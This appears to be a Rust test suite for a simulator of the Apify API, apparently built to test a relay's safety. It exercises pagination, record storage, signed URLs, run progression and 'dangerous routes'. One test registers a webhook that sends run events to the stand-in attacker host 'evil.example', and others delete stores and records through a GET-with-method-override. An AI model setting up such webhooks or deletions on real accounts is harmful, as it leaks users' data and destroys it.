//! API semantics: pagination, filters, ids by name, key paging, records (raw values, gzip
//! bodies, 302 to the storage host), named-store creation, run progression, the `?method=`
//! override, the dangerous routes' real effects, and per-resource rate limits.

use crate::common::*;
use axum::http::StatusCode;
use forge_sim::{Sim, SimOptions};
use serde_json::{json, Value};
use std::io::Write;
use std::time::{Duration, Instant};

#[tokio::test]
async fn offset_pagination_with_the_1000_clamp_and_desc() {
    let sim = sim();
    let all = get(&sim, "/v2/actor-runs?limit=5000").await.data();
    let total = all["total"].as_u64().unwrap();
    assert!(total > 1000, "{total}");
    assert_eq!(all["limit"], 1000);
    assert_eq!(all["count"], 1000);
    assert_eq!(all["offset"], 0);
    assert_eq!(all["desc"], false);
    let asc = all["items"].as_array().unwrap();
    let starts: Vec<&str> = asc
        .iter()
        .map(|r| r["startedAt"].as_str().unwrap())
        .collect();
    assert!(
        starts.windows(2).all(|w| w[0] <= w[1]),
        "ascending by startedAt"
    );

    let page = get(&sim, "/v2/actor-runs?offset=10&limit=5").await.data();
    assert_eq!(page["count"], 5);
    assert_eq!(page["items"][0]["id"], asc[10]["id"]);

    let desc = get(&sim, "/v2/actor-runs?desc=1&limit=3").await.data();
    assert_eq!(desc["desc"], true);
    let last = get(
        &sim,
        &format!("/v2/actor-runs?offset={}&limit=1", total - 1),
    )
    .await
    .data();
    assert_eq!(desc["items"][0]["id"], last["items"][0]["id"]);

    let beyond = get(&sim, &format!("/v2/actor-runs?offset={}", total + 5))
        .await
        .data();
    assert_eq!(beyond["count"], 0);
    assert_eq!(beyond["total"], total);
}

#[tokio::test]
async fn run_filters_status_and_started_window() {
    let sim = sim();
    let r = get(&sim, "/v2/actor-runs?status=FAILED,TIMED-OUT&limit=1000")
        .await
        .data();
    let items = r["items"].as_array().unwrap();
    assert!(!items.is_empty());
    assert!(items
        .iter()
        .all(|i| matches!(i["status"].as_str(), Some("FAILED" | "TIMED-OUT"))));

    let after = "2026-01-01T00:00:00.000Z";
    let before = "2026-01-03T00:00:00.000Z";
    let r = get(
        &sim,
        &format!("/v2/actor-runs?startedAfter={after}&startedBefore={before}&limit=1000"),
    )
    .await
    .data();
    let items = r["items"].as_array().unwrap();
    assert!(items.len() > 100);
    for i in items {
        let s = i["startedAt"].as_str().unwrap();
        assert!(s >= after && s <= before, "{s}");
    }
    let id = actor_id(&sim, "timeout-prone");
    let r = get(&sim, &format!("/v2/actors/{id}/runs?status=TIMED-OUT"))
        .await
        .data();
    assert!(r["total"].as_u64().unwrap() > 10);
    assert!(r["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|i| i["actId"] == id.as_str()));

    let r = get(&sim, "/v2/actor-runs?status=BROKEN").await;
    assert_eq!(
        (r.status.as_u16(), r.error_type().as_str()),
        (400, "invalid-parameter")
    );
    let r = get(&sim, "/v2/actor-runs?startedAfter=yesterday").await;
    assert_eq!(r.status, 400);

    let last = get(&sim, &format!("/v2/actors/{id}/runs/last?status=SUCCEEDED")).await;
    assert_eq!(last.status, 200);
    assert_eq!(last.data()["status"], "SUCCEEDED");
    assert_eq!(last.data()["actId"], id.as_str());
}

#[tokio::test]
async fn my_filter_names_and_the_acts_alias() {
    let sim = sim();
    let mine = get(&sim, "/v2/actors?my=1").await.data();
    let everything = get(&sim, "/v2/actors").await.data();
    assert_eq!(mine["total"], 24);
    assert!(everything["total"].as_u64().unwrap() > 24);
    assert!(mine["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|a| a["username"] == "forge-demo"));
    let by_name = get(&sim, "/v2/actors/forge-demo~flaky-scraper")
        .await
        .data();
    let legacy = get(&sim, "/v2/acts/forge-demo~flaky-scraper").await.data();
    assert_eq!(by_name, legacy);
    assert_eq!(by_name["name"], "flaky-scraper");
    let by_id = get(
        &sim,
        &format!("/v2/acts/{}", by_name["id"].as_str().unwrap()),
    )
    .await
    .data();
    assert_eq!(by_id, by_name);
    let sorted = get(
        &sim,
        "/v2/actors?my=1&sortBy=stats.lastRunStartedAt&desc=1&limit=1",
    )
    .await
    .data();
    assert_ne!(sorted["items"][0]["name"], "stale-monitor");

    // Stores by id, `~name` and `username~name`.
    let a = get(&sim, "/v2/key-value-stores/~forge-trends").await.data();
    let b = get(&sim, "/v2/key-value-stores/forge-demo~forge-trends")
        .await
        .data();
    let c = get(
        &sim,
        &format!("/v2/key-value-stores/{}", a["id"].as_str().unwrap()),
    )
    .await
    .data();
    assert_eq!(a, b);
    assert_eq!(a["id"], c["id"]);
    assert_eq!(
        get(&sim, "/v2/key-value-stores/someone-else~forge-trends")
            .await
            .status,
        404
    );
    let d = get(&sim, "/v2/datasets/~product-catalog").await.data();
    assert_eq!(d["itemCount"], 12_480);
}

#[tokio::test]
async fn unnamed_filter_on_storages() {
    let sim = sim();
    for kind in ["datasets", "key-value-stores", "request-queues"] {
        let named = get(&sim, &format!("/v2/{kind}")).await.data();
        let all = get(&sim, &format!("/v2/{kind}?unnamed=1&limit=10"))
            .await
            .data();
        let named_total = named["total"].as_u64().unwrap();
        assert!(named_total >= 1, "{kind}");
        assert!(
            all["total"].as_u64().unwrap() > named_total + 1000,
            "{kind}"
        );
        assert!(named["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i["name"].as_str().is_some_and(|n| !n.is_empty())));
    }
}

#[tokio::test]
async fn key_paging_prefix_and_raw_records() {
    let sim = sim();
    let created = req("POST", "/v2/key-value-stores?name=paging-test")
        .token(full())
        .send(&sim)
        .await;
    assert_eq!(created.status, StatusCode::CREATED);
    let id = created.data()["id"].as_str().unwrap().to_string();
    for key in ["a-1", "a-2", "a-3", "b-1", "c-1"] {
        let r = req("PUT", &format!("/v2/key-value-stores/{id}/records/{key}"))
            .token(full())
            .body("text/plain; charset=utf-8", key.as_bytes().to_vec())
            .send(&sim)
            .await;
        assert_eq!(r.status, StatusCode::CREATED);
    }
    let p1 = get(&sim, &format!("/v2/key-value-stores/{id}/keys?limit=2"))
        .await
        .data();
    assert_eq!(keys(&p1), ["a-1", "a-2"]);
    assert_eq!(p1["isTruncated"], true);
    assert_eq!(p1["nextExclusiveStartKey"], "a-2");
    assert_eq!(p1["exclusiveStartKey"], Value::Null);
    let p2 = get(
        &sim,
        &format!("/v2/key-value-stores/{id}/keys?limit=2&exclusiveStartKey=a-2"),
    )
    .await
    .data();
    assert_eq!(keys(&p2), ["a-3", "b-1"]);
    let p3 = get(
        &sim,
        &format!("/v2/key-value-stores/{id}/keys?limit=2&exclusiveStartKey=b-1"),
    )
    .await
    .data();
    assert_eq!(keys(&p3), ["c-1"]);
    assert_eq!(p3["isTruncated"], false);
    assert_eq!(p3["nextExclusiveStartKey"], Value::Null);
    let pre = get(&sim, &format!("/v2/key-value-stores/{id}/keys?prefix=a-"))
        .await
        .data();
    assert_eq!(keys(&pre), ["a-1", "a-2", "a-3"]);
    assert_eq!(pre["items"][0]["size"], 3);

    let rec = get(&sim, &format!("/v2/key-value-stores/{id}/records/b-1")).await;
    assert_eq!(rec.status, 200);
    assert_eq!(
        rec.header("content-type"),
        Some("text/plain; charset=utf-8")
    );
    assert_eq!(rec.body, b"b-1");
    assert_eq!(
        sim.store_record("paging-test", "b-1"),
        Some(("text/plain; charset=utf-8".to_string(), b"b-1".to_vec()))
    );
}

fn keys(page: &Value) -> Vec<String> {
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["key"].as_str().unwrap().to_string())
        .collect()
}

#[tokio::test]
async fn record_put_stores_content_type_and_decodes_gzip() {
    let sim = sim();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(br#"{"week":"2026-W01"}"#).unwrap();
    let body = gz.finish().unwrap();
    let r = req(
        "PUT",
        "/v2/key-value-stores/~forge-trends/records/snapshot-2026-W01",
    )
    .token(scoped())
    .body("application/json; charset=utf-8", body)
    .header("content-encoding", "gzip")
    .send(&sim)
    .await;
    assert_eq!(
        r.status,
        StatusCode::CREATED,
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    assert!(r
        .header("location")
        .unwrap()
        .ends_with("/records/snapshot-2026-W01"));
    let (ct, bytes) = sim
        .store_record("forge-trends", "snapshot-2026-W01")
        .unwrap();
    assert_eq!(ct, "application/json; charset=utf-8");
    assert_eq!(bytes, br#"{"week":"2026-W01"}"#);
    let back = get(
        &sim,
        "/v2/key-value-stores/~forge-trends/records/snapshot-2026-W01",
    )
    .await;
    assert_eq!(back.json()["week"], "2026-W01");

    let r = req("PUT", "/v2/key-value-stores/~forge-trends/records/x")
        .token(scoped())
        .body("text/plain", b"abc".to_vec())
        .header("content-encoding", "zstd")
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(r.error_type(), "unsupported-content-encoding");
    let r = req(
        "PUT",
        "/v2/key-value-stores/~forge-trends/records/bad%20key",
    )
    .token(scoped())
    .body("text/plain", b"abc".to_vec())
    .send(&sim)
    .await;
    assert_eq!(
        (r.status.as_u16(), r.error_type().as_str()),
        (400, "invalid-record-key")
    );
}

#[tokio::test]
async fn large_records_redirect_to_the_storage_host_without_auth() {
    let sim = sim();
    let r = req(
        "GET",
        "/v2/key-value-stores/~crawler-state/records/large-sitemap-cache",
    )
    .token(scoped())
    .header("host", "127.0.0.1:4567")
    .send(&sim)
    .await;
    assert_eq!(r.status, StatusCode::FOUND);
    let location = r.header("location").unwrap().to_string();
    let store = sim.store_id("crawler-state").unwrap();
    assert_eq!(
        location,
        format!("http://127.0.0.1:4567/__sim/storage/{store}/large-sitemap-cache")
    );
    assert!(r.body.is_empty());
    let path = location.strip_prefix("http://127.0.0.1:4567").unwrap();
    let bytes = req("GET", path).send(&sim).await;
    assert_eq!(bytes.status, 200);
    assert!(bytes.body.len() > 64 * 1024);
    assert_eq!(bytes.json()["urls"].as_array().unwrap().len(), 1800);
    assert!(bytes
        .header("content-type")
        .unwrap()
        .starts_with("application/json"));
    // The storage host request is in the log, without an Authorization header.
    let log = sim.requests();
    assert_eq!(log.last().unwrap().path, path);
    assert_eq!(log.last().unwrap().header("authorization"), None);

    // Any record over 64 KiB redirects, whatever its key.
    let big = vec![b'x'; 70 * 1024];
    req("PUT", "/v2/key-value-stores/~forge-trends/records/blob")
        .token(scoped())
        .body("application/octet-stream", big.clone())
        .send(&sim)
        .await;
    let r = get(&sim, "/v2/key-value-stores/~forge-trends/records/blob").await;
    assert_eq!(r.status, StatusCode::FOUND);
    let small = get(&sim, "/v2/key-value-stores/~crawler-state/records/STATE").await;
    assert_eq!(small.status, 200);
}

#[tokio::test]
async fn creating_a_named_store_201_then_200_with_the_same_store() {
    let sim = sim();
    let first = req("POST", "/v2/key-value-stores?name=my-new-store")
        .token(scoped())
        .send(&sim)
        .await;
    assert_eq!(first.status, StatusCode::CREATED);
    assert!(first.header("location").is_some());
    let again = req("POST", "/v2/key-value-stores?name=my-new-store")
        .token(scoped())
        .send(&sim)
        .await;
    assert_eq!(again.status, StatusCode::OK);
    assert_eq!(first.data()["id"], again.data()["id"]);
    assert_eq!(again.data()["name"], "my-new-store");
    let existing = req("POST", "/v2/key-value-stores?name=forge-trends")
        .token(scoped())
        .send(&sim)
        .await;
    assert_eq!(existing.status, StatusCode::OK);
    assert_eq!(
        existing.data()["id"].as_str(),
        sim.store_id("forge-trends").as_deref()
    );
}

/// Where the spec allows `null`, Apify sends real values mostly and `null` sometimes; so does
/// the simulator, on ordinary Actors only (the story Actors' answers stay plain).
#[tokio::test]
async fn nullable_fields_are_sometimes_null_never_on_the_stories() {
    let sim = sim();
    let stories = forge_sim::fleet::STORIES
        .iter()
        .map(|(n, _)| *n)
        .collect::<Vec<_>>();
    let list = get(&sim, "/v2/actors?limit=1000").await.data();
    let items = list["items"].as_array().unwrap();
    let null_stats: Vec<&str> = items
        .iter()
        .filter(|a| a["stats"].is_null())
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    assert!(!null_stats.is_empty());
    assert!(
        null_stats.iter().all(|n| !stories.contains(n)),
        "{null_stats:?}"
    );
    let (mut deprecated_null, mut no_definition, mut metamorphs) = (Vec::new(), Vec::new(), (0, 0));
    for a in items {
        let name = a["name"].as_str().unwrap();
        let id = a["id"].as_str().unwrap();
        let detail = get(&sim, &format!("/v2/actors/{id}")).await.data();
        // The detail (`Actor`) always has its stats: the spec does not allow `null` there.
        assert!(detail["stats"].is_object(), "{name}");
        match &detail["isDeprecated"] {
            Value::Null => deprecated_null.push(name.to_string()),
            v => assert_eq!(v, false, "{name}"),
        }
        let build = detail["taggedBuilds"]["latest"]["buildId"]
            .as_str()
            .unwrap();
        let build = get(&sim, &format!("/v2/actor-builds/{build}")).await.data();
        if build["actorDefinition"].is_null() {
            assert!(build["inputSchema"].is_null());
            no_definition.push(name.to_string());
        } else {
            assert!(build["inputSchema"].is_string(), "{name}");
        }
        let run = get(&sim, &format!("/v2/actors/{id}/runs/last")).await;
        if run.status == StatusCode::OK {
            match &run.data()["metamorphs"] {
                Value::Null => metamorphs.0 += 1,
                v => {
                    assert_eq!(v, &json!([]));
                    metamorphs.1 += 1
                }
            }
        }
    }
    for names in [&deprecated_null, &no_definition] {
        assert!(!names.is_empty());
        assert!(
            names.iter().all(|n| !stories.contains(&n.as_str())),
            "{names:?}"
        );
    }
    assert!(metamorphs.1 > metamorphs.0, "{metamorphs:?}");
}

/// Apify serves signed public URLs without a token — which is why the relay must never pass
/// one on. Only the right signature for that storage and resource works.
#[tokio::test]
async fn signed_public_urls_read_without_a_token() {
    let sim = sim();
    let run = get(&sim, "/v2/actor-runs?desc=1&limit=1").await.data()["items"][0].clone();
    let ds = run["defaultDatasetId"].as_str().unwrap();
    let kv = run["defaultKeyValueStoreId"].as_str().unwrap();
    let path = |url: &Value| {
        url.as_str()
            .unwrap()
            .strip_prefix("http://sim.test")
            .unwrap()
            .to_string()
    };
    let items = path(&get(&sim, &format!("/v2/datasets/{ds}")).await.data()["itemsPublicUrl"]);
    let store = get(&sim, &format!("/v2/key-value-stores/{kv}"))
        .await
        .data();
    let keys = path(&store["keysPublicUrl"]);
    let records = store["recordsPublicUrl"].as_str().unwrap().to_string();
    let listing = get(&sim, &format!("/v2/key-value-stores/{kv}/keys"))
        .await
        .data();
    let input = listing["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["key"] == "INPUT")
        .map(|i| path(&i["recordPublicUrl"]))
        .unwrap();
    let (base, sig) = records.split_once('?').unwrap();
    let via_records = format!(
        "{}/INPUT?{sig}",
        base.strip_prefix("http://sim.test").unwrap()
    );
    for uri in [&items, &keys, &input, &via_records] {
        let r = req("GET", uri).send(&sim).await;
        assert_eq!(r.status, StatusCode::OK, "{uri}");
    }
    let r = req("GET", &input).send(&sim).await;
    assert!(String::from_utf8_lossy(&r.body).contains(forge_sim::SENTINEL));
    // A signature for something else, or none, is no credential.
    let (keys_path, keys_sig) = keys.split_once('?').unwrap();
    for uri in [
        format!("/v2/datasets/{ds}/items?{keys_sig}"),
        format!("{keys_path}?signature=0000.forged"),
        keys_path.to_string(),
        format!("/v2/datasets/{ds}?{}", items.split_once('?').unwrap().1),
    ] {
        let r = req("GET", &uri).send(&sim).await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{uri}");
    }
}

#[tokio::test]
async fn a_started_run_progresses_to_a_terminal_status() {
    let sim = Sim::new(SimOptions {
        run_speed: 400.0,
        ..opts()
    });
    let id = actor_id(&sim, "healthy-workhorse");
    let started = req(
        "POST",
        &format!("/v2/actors/{id}/runs?memory=2048&timeout=3600"),
    )
    .token(scoped())
    .json(&json!({"startUrls": [{"url": "https://example.com"}]}))
    .send(&sim)
    .await;
    assert_eq!(started.status, StatusCode::CREATED);
    let run = started.data();
    assert_eq!(run["status"], "READY");
    assert_eq!(run["finishedAt"], Value::Null);
    assert_eq!(run["options"]["memoryMbytes"], 2048);
    assert_eq!(run["meta"]["origin"], "API");
    let run_id = run["id"].as_str().unwrap().to_string();
    assert!(started.header("location").unwrap().ends_with(&run_id));
    let kv = run["defaultKeyValueStoreId"].as_str().unwrap().to_string();
    let (ct, input) = sim.store_record(&kv, "INPUT").unwrap();
    assert_eq!(ct, "application/json");
    assert!(String::from_utf8(input).unwrap().contains("example.com"));

    let mut seen = vec!["READY".to_string()];
    let deadline = Instant::now() + Duration::from_secs(20);
    let fin = loop {
        let r = get(&sim, &format!("/v2/actor-runs/{run_id}")).await.data();
        let s = r["status"].as_str().unwrap().to_string();
        if seen.last() != Some(&s) {
            seen.push(s.clone());
        }
        if !matches!(s.as_str(), "READY" | "RUNNING") {
            break r;
        }
        assert!(Instant::now() < deadline, "run did not finish: {seen:?}");
        tokio::time::sleep(Duration::from_millis(5)).await;
    };
    assert!(seen.contains(&"RUNNING".to_string()), "{seen:?}");
    assert!(
        matches!(
            fin["status"].as_str(),
            Some("SUCCEEDED" | "FAILED" | "TIMED-OUT" | "ABORTED")
        ),
        "{seen:?}"
    );
    assert!(fin["finishedAt"].is_string());
    let stats = &fin["stats"];
    assert!(stats["durationMillis"].as_u64().unwrap() > 1000);
    assert!(stats["runTimeSecs"].as_f64().unwrap() > 1.0);
    assert!(stats["computeUnits"].as_f64().unwrap() > 0.0);
    assert!(stats["memMaxBytes"].as_u64().unwrap() > 0);
    assert!(fin["usageTotalUsd"].as_f64().unwrap() > 0.0);
    let ds = get(
        &sim,
        &format!("/v2/datasets/{}", fin["defaultDatasetId"].as_str().unwrap()),
    )
    .await
    .data();
    if fin["status"] == "SUCCEEDED" {
        assert!(ds["itemCount"].as_u64().unwrap() > 0);
    }
    assert!(sim.store_record(&kv, "OUTPUT").is_some());
    // The new run is in both run lists.
    let listed = get(&sim, &format!("/v2/actors/{id}/runs?desc=1&limit=1"))
        .await
        .data();
    assert_eq!(listed["items"][0]["id"], run_id.as_str());
    let last = get(&sim, &format!("/v2/actors/{id}/runs/last"))
        .await
        .data();
    assert_eq!(last["id"], run_id.as_str());
}

#[tokio::test]
async fn wait_for_finish_and_abort() {
    let sim = Sim::new(SimOptions {
        run_speed: 2000.0,
        ..opts()
    });
    let id = actor_id(&sim, "healthy-workhorse");
    let r = req("POST", &format!("/v2/actors/{id}/runs?waitForFinish=20"))
        .token(full())
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    assert!(r.data()["finishedAt"].is_string(), "{}", r.data());

    let slow = Sim::new(opts()); // 1× speed: the run stays RUNNING for minutes
    let r = req("POST", &format!("/v2/actors/{id}/runs"))
        .token(scoped())
        .send(&slow)
        .await;
    let run_id = r.data()["id"].as_str().unwrap().to_string();
    let aborted = req("POST", &format!("/v2/actor-runs/{run_id}/abort"))
        .token(scoped())
        .send(&slow)
        .await;
    assert_eq!(aborted.status, 200);
    assert_eq!(aborted.data()["status"], "ABORTED");
    assert!(aborted.data()["finishedAt"].is_string());
    let again = get(&slow, &format!("/v2/actor-runs/{run_id}")).await.data();
    assert_eq!(again["status"], "ABORTED");
    // A missing Run grant cannot abort.
    let r = req("POST", &format!("/v2/actor-runs/{run_id}/abort"))
        .token(token("missing-run"))
        .send(&slow)
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn method_override_really_deletes() {
    let sim = sim();
    let ds = get(&sim, "/v2/datasets?unnamed=1&limit=1").await.data()["items"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(get(&sim, &format!("/v2/datasets/{ds}")).await.status, 200);
    let r = get(&sim, &format!("/v2/datasets/{ds}?method=DELETE")).await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert_eq!(get(&sim, &format!("/v2/datasets/{ds}")).await.status, 404);

    // A GET with ?method=DELETE on a record, authenticated by ?token=.
    let r = req(
        "GET",
        &format!(
            "/v2/key-value-stores/~crawler-state/records/STATE?method=DELETE&token={}",
            token("too-broad")
        ),
    )
    .send(&sim)
    .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert!(sim.store_record("crawler-state", "STATE").is_none());
    // The override is logged as received.
    let log = sim.requests();
    assert_eq!(log.last().unwrap().method, "GET");
    assert!(log
        .last()
        .unwrap()
        .query
        .as_deref()
        .unwrap()
        .contains("method=DELETE"));
}

#[tokio::test]
async fn dangerous_routes_have_real_effects() {
    let sim = sim();
    let t = full();
    // Push items into a dataset.
    let r = req("POST", "/v2/datasets/~leads-archive/items")
        .token(t)
        .json(&json!([{"a": 1}, {"a": 2}]))
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let d = get(&sim, "/v2/datasets/~leads-archive").await.data();
    assert_eq!(d["itemCount"], 3_213);
    let items = get(&sim, "/v2/datasets/~leads-archive/items?offset=3211").await;
    assert_eq!(items.json(), json!([{"a": 1}, {"a": 2}]));
    assert_eq!(items.header("x-apify-pagination-total"), Some("3213"));
    // Delete a record and a whole store.
    let r = req(
        "DELETE",
        "/v2/key-value-stores/~app-config/records/settings",
    )
    .token(t)
    .send(&sim)
    .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert!(sim.store_record("app-config", "settings").is_none());
    let r = req("DELETE", "/v2/key-value-stores/~app-config")
        .token(t)
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert_eq!(
        get(&sim, "/v2/key-value-stores/~app-config").await.status,
        404
    );
    // Update an Actor.
    let id = actor_id(&sim, "memory-hog");
    let r = req("PUT", &format!("/v2/actors/{id}"))
        .token(t)
        .json(&json!({"title": "Renamed", "defaultRunOptions": {"memoryMbytes": 512}}))
        .send(&sim)
        .await;
    assert_eq!(r.status, 200);
    let a = get(&sim, &format!("/v2/actors/{id}")).await.data();
    assert_eq!(a["title"], "Renamed");
    assert_eq!(a["defaultRunOptions"]["memoryMbytes"], 512);
    // Webhooks, schedules, tasks, request queues are created and listed.
    let before = req("GET", "/v2/webhooks").token(t).send(&sim).await.data()["total"].clone();
    let r = req("POST", "/v2/webhooks")
        .token(t)
        .json(
            &json!({"eventTypes": ["ACTOR.RUN.SUCCEEDED"], "condition": {"actorId": id},
                     "requestUrl": "https://evil.example/hook"}),
        )
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let after = req("GET", "/v2/webhooks").token(t).send(&sim).await.data()["total"].clone();
    assert_eq!(after.as_u64().unwrap(), before.as_u64().unwrap() + 1);
    let r = req("POST", "/v2/schedules")
        .token(t)
        .json(
            &json!({"name": "every-minute", "cronExpression": "* * * * *",
                     "actions": [{"type": "RUN_ACTOR", "actorId": id}]}),
        )
        .send(&sim)
        .await;
    assert_eq!(
        r.status,
        StatusCode::CREATED,
        "{}",
        String::from_utf8_lossy(&r.body)
    );
    let r = req("POST", "/v2/actor-tasks")
        .token(t)
        .json(&json!({"actId": id, "name": "hog-task"}))
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let r = req("POST", "/v2/request-queues?name=q1")
        .token(t)
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let qs = req("GET", "/v2/request-queues")
        .token(t)
        .send(&sim)
        .await
        .data();
    assert!(qs["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|q| q["name"] == "q1"));
    // Starting a run with ad-hoc webhooks creates them.
    let hooks =
        base64_encode(br#"[{"eventTypes":["ACTOR.RUN.FAILED"],"requestUrl":"https://x.example"}]"#);
    let r = req("POST", &format!("/v2/actors/{id}/runs?webhooks={hooks}"))
        .token(t)
        .send(&sim)
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let wl = req("GET", "/v2/webhooks").token(t).send(&sim).await.data();
    assert_eq!(wl["total"].as_u64().unwrap(), after.as_u64().unwrap() + 1);
    // run-sync starts a run and answers its OUTPUT; run-sync-get-dataset-items its items.
    let hw = actor_id(&sim, "healthy-workhorse");
    let runs_before = get(&sim, &format!("/v2/actors/{hw}/runs?limit=1"))
        .await
        .data()["total"]
        .as_u64()
        .unwrap();
    let mut ok = 0;
    for _ in 0..5 {
        let r = req("POST", &format!("/v2/actors/{hw}/run-sync"))
            .token(t)
            .json(&json!({}))
            .send(&sim)
            .await;
        assert!(matches!(r.status.as_u16(), 201 | 400 | 408), "{}", r.status);
        if r.status == 201 {
            ok += 1;
            assert_eq!(r.json()["status"], "SUCCEEDED");
        }
    }
    assert!(ok >= 3);
    let r = req(
        "GET",
        &format!("/v2/actors/{hw}/run-sync-get-dataset-items?limit=3"),
    )
    .token(t)
    .send(&sim)
    .await;
    if r.status == 201 {
        assert!(r.json().as_array().unwrap().len() <= 3);
        assert!(r.header("x-apify-pagination-total").is_some());
    }
    let runs_after = get(&sim, &format!("/v2/actors/{hw}/runs?limit=1"))
        .await
        .data()["total"]
        .as_u64()
        .unwrap();
    assert_eq!(runs_after, runs_before + 6);
}

fn base64_encode(b: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD
        .encode(b)
        .replace('+', "%2B")
        .replace('/', "%2F")
        .replace('=', "%3D")
}

#[tokio::test]
async fn rate_limit_is_per_resource_429_without_retry_after() {
    let sim = Sim::new(SimOptions {
        rate_limit_per_sec: 5,
        ..opts()
    });
    let mut limited = 0;
    for _ in 0..20 {
        let r = get(&sim, "/v2/actors?my=1").await;
        assert_eq!(r.header("x-ratelimit-limit"), Some("5"));
        if r.status == StatusCode::TOO_MANY_REQUESTS {
            limited += 1;
            assert_eq!(r.error_type(), "rate-limit-exceeded");
            assert!(r.header("retry-after").is_none());
        }
    }
    assert!(limited >= 10, "{limited}");
    // Another resource (or another token) has its own budget.
    assert_eq!(get(&sim, "/v2/actor-runs?limit=1").await.status, 200);
    let r = req("GET", "/v2/actors").token(full()).send(&sim).await;
    assert_eq!(r.status, 200);
}
